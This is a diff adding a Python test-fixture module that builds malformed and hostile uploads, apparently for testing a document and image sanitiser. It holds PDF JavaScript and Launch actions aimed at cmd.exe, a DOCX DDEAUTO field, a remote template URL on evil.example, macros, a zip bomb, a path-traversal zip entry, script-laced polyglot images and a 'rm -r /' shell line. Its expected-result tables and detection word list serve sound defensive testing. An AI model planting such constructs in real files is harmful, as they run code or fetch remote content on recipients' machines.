@@ -1,0 +1,176 @@
+"""Files as nobody should send them, made when a test asks for one."""
+
+import io
+import zipfile
+
+import pikepdf
+from PIL import Image
+
+CANARY = "Kanariefil-Zq7"
+DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
+PLACE = 0x8825
+
+
+def picture(form: str = "JPEG", size: tuple[int, int] = (40, 30), **more) -> bytes:
+    out = io.BytesIO()
+    Image.new("RGB", size, "seagreen").save(out, form, **more)
+    return out.getvalue()
+
+
+def photo_with_place() -> bytes:
+    """Turned a quarter, with the place where it was taken, the owner's name, and a comment."""
+    exif = Image.Exif()
+    exif[0x0112] = 6
+    exif[0x013B] = CANARY
+    exif.get_ifd(PLACE).update({1: "N", 2: (55.0, 36.0, 17.0), 3: "E", 4: (13.0, 0.0, 13.0)})
+    return picture(exif=exif, comment=CANARY.encode())
+
+
+def huge_picture() -> bytes:
+    out = io.BytesIO()
+    Image.new("1", (20_000, 10_000)).save(out, "PNG")
+    return out.getvalue()
+
+
+def pdf(**root) -> bytes:
+    """One empty page, its author, and what is hung on its root."""
+    document, out = pikepdf.new(), io.BytesIO()
+    document.add_blank_page()
+    document.docinfo["/Author"] = CANARY
+    with document.open_metadata() as told:
+        told["dc:creator"] = [CANARY]
+    for name, value in root.items():
+        document.Root[f"/{name}"] = value
+    document.save(out)
+    return out.getvalue()
+
+
+def pdf_with_script() -> bytes:
+    return pdf(OpenAction=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert('hej')"))
+
+
+def pdf_with_launch() -> bytes:
+    document, out = pikepdf.new(), io.BytesIO()
+    page = document.add_blank_page().obj
+    act = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
+    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=act)
+    page.Annots = pikepdf.Array([link])
+    document.save(out)
+    return out.getvalue()
+
+
+def pdf_with_a_file_inside() -> bytes:
+    document, out = pikepdf.new(), io.BytesIO()
+    document.add_blank_page()
+    document.attachments["cmd.exe"] = b"MZ"
+    document.save(out)
+    return out.getvalue()
+
+
+def signed_pdf(**root) -> bytes:
+    signature = pikepdf.Dictionary(Type=pikepdf.Name.Sig, ByteRange=[0, 1, 2, 3], Contents=b"\0" * 8)
+    return pdf(Signed=signature, **root)
+
+
+def locked_pdf() -> bytes:
+    document, out = pikepdf.new(), io.BytesIO()
+    document.add_blank_page()
+    document.save(out, encryption=pikepdf.Encryption(owner="a", user="b"))
+    return out.getvalue()
+
+
+def docx(*, main: str = DOCX_MAIN, body: str = "<w:p/>", rels: str = "", **parts: bytes) -> bytes:
+    """`parts` are further entries; two underscores in a name stand for a slash, one more for a dot."""
+    types = (
+        f'<Types><Override PartName="/word/document.xml" ContentType="{main}"/>'
+        '<Override PartName="/docProps/core.xml" ContentType="x"/></Types>'
+    )
+    entries = {
+        "[Content_Types].xml": types.encode(),
+        "_rels/.rels": b'<Relationships><Relationship Id="1" Type="x/officeDocument" Target="word/document.xml"/>'
+        b'<Relationship Id="2" Type="x/core-properties" Target="docProps/core.xml"/></Relationships>',
+        "word/document.xml": f'<w:document xmlns:w="w">{body}</w:document>'.encode(),
+        "word/_rels/document.xml.rels": f"<Relationships>{rels}</Relationships>".encode(),
+        "docProps/core.xml": f"<x>{CANARY}</x>".encode(),
+        **{name.replace("__", "/").replace("_DOT_", "."): content for name, content in parts.items()},
+    }
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
+        for name, content in entries.items():
+            made.writestr(name, content)
+    return out.getvalue()
+
+
+def bomb() -> bytes:
+    return docx(word__media__a_DOT_gif=b"\0" * (20 * 1024 * 1024))
+
+
+OUTSIDE = '<Relationship Id="9" Type="x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
+REFUSED = {
+    "nothing": (lambda: b"", "empty"),
+    "a page as a picture": (lambda: b"<!doctype html><script>alert(1)</script>", "unknown"),
+    "a drawing with a script": (lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>', "unknown"),
+    "a program": (lambda: b"MZ\x90\x00\x03\x00\x00\x00PE", "unknown"),
+    "a program of letters": (lambda: b"MZ, and then letters only", "unknown"),
+    "a script": (lambda: b"#!/bin/sh\nrm -r /", "unknown"),
+    "a PDF behind other text": (lambda: b"hello %PDF-1.7", "unknown"),
+    "a mail": (lambda: b"MIME-Version: 1.0\nContent-Type: text/html", "unknown"),
+    "text with bytes of other things": (lambda: b"hello\x00\x01", "unknown"),
+    "text in another coding": (lambda: "Malmö".encode("latin-1"), "unknown"),
+    "the beginning of a picture": (lambda: picture()[:60], "broken"),
+    "a page behind the mark of a picture": (lambda: b"\xff\xd8\xff<script>alert(1)</script>", "broken"),
+    "a picture of 200 million points": (huge_picture, "too_many_pixels"),
+    "a sound": (lambda: b"RIFF\x00\x00\x00\x00WAVEfmt ", "broken"),
+    "the mark of a PDF alone": (lambda: b"%PDF-1.7\n<script>", "broken"),
+    "a locked PDF": (locked_pdf, "locked"),
+    "a signed PDF with a script": (lambda: signed_pdf(AA=pikepdf.Dictionary()), "signed_active"),
+    "a form that is a program": (lambda: pdf(AcroForm=pikepdf.Dictionary(XFA=b"<x/>")), "active"),
+    "a zip": (lambda: _zip({"a.txt": b"a"}), "unknown"),
+    "a zip bomb": (bomb, "unpacks"),
+    "a name that climbs": (lambda: _zip({"../a": b"a"}), "broken"),
+    "macros": (lambda: docx(word__vbaProject_DOT_bin=b"x"), "macros"),
+    "macros by name": (lambda: docx(main=DOCX_MAIN.replace("document.main", "document.macroEnabled.main")), "macros"),
+    "an enclosed program": (lambda: docx(word__embeddings__a_DOT_xlsx=b"x"), "active"),
+    "an entity": (lambda: docx(word__a_DOT_xml=b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'), "active"),
+    "a template from elsewhere": (lambda: docx(rels=OUTSIDE), "fetches"),
+    "a field that starts a program": (lambda: docx(body="<w:instrText>DDEAUTO c:\\cmd.exe</w:instrText>"), "fetches"),
+}  # fmt: skip
+DISARMED = {
+    "a photo with its place": (photo_with_place, "jpg"),
+    "a picture that is a page too": (lambda: picture("PNG") + b"<script>alert(1)</script>" + CANARY.encode(), "png"),
+    "a PDF with a script": (pdf_with_script, "pdf"),
+    "a PDF that starts a program": (pdf_with_launch, "pdf"),
+    "a PDF with a file inside": (pdf_with_a_file_inside, "pdf"),
+    "a PDF with a zip behind it": (lambda: pdf() + _zip({"a": CANARY.encode()}), "pdf"),
+    "a letter with its properties": (docx, "docx"),
+    "a letter with a photo": (lambda: docx(word__media__a_DOT_jpg=photo_with_place()), "docx"),
+}
+
+
+def _zip(entries: dict[str, bytes]) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as made:
+        for name, content in entries.items():
+            made.writestr(name, content)
+    return out.getvalue()
+
+
+WORDS = (CANARY.encode(), b"<script", b"JavaScript", b"alert", b"Launch", b"cmd.exe", b"Exif")
+
+
+def said(content: bytes) -> set[bytes]:
+    """What it still tells or could do, packed or not."""
+    told = b"".join(_opened(content))
+    return {word for word in WORDS if word in told}
+
+
+def _opened(content: bytes):
+    """The bytes as they stand, and unpacked where something packs them."""
+    yield content
+    if content.startswith(b"PK"):
+        with zipfile.ZipFile(io.BytesIO(content)) as packed:
+            yield from (packed.read(name) for name in packed.namelist())
+    if content.startswith(b"%PDF"):
+        with pikepdf.open(io.BytesIO(content)) as document:
+            yield from (repr(one).encode() for one in document.objects)
+            yield repr(document.trailer).encode()
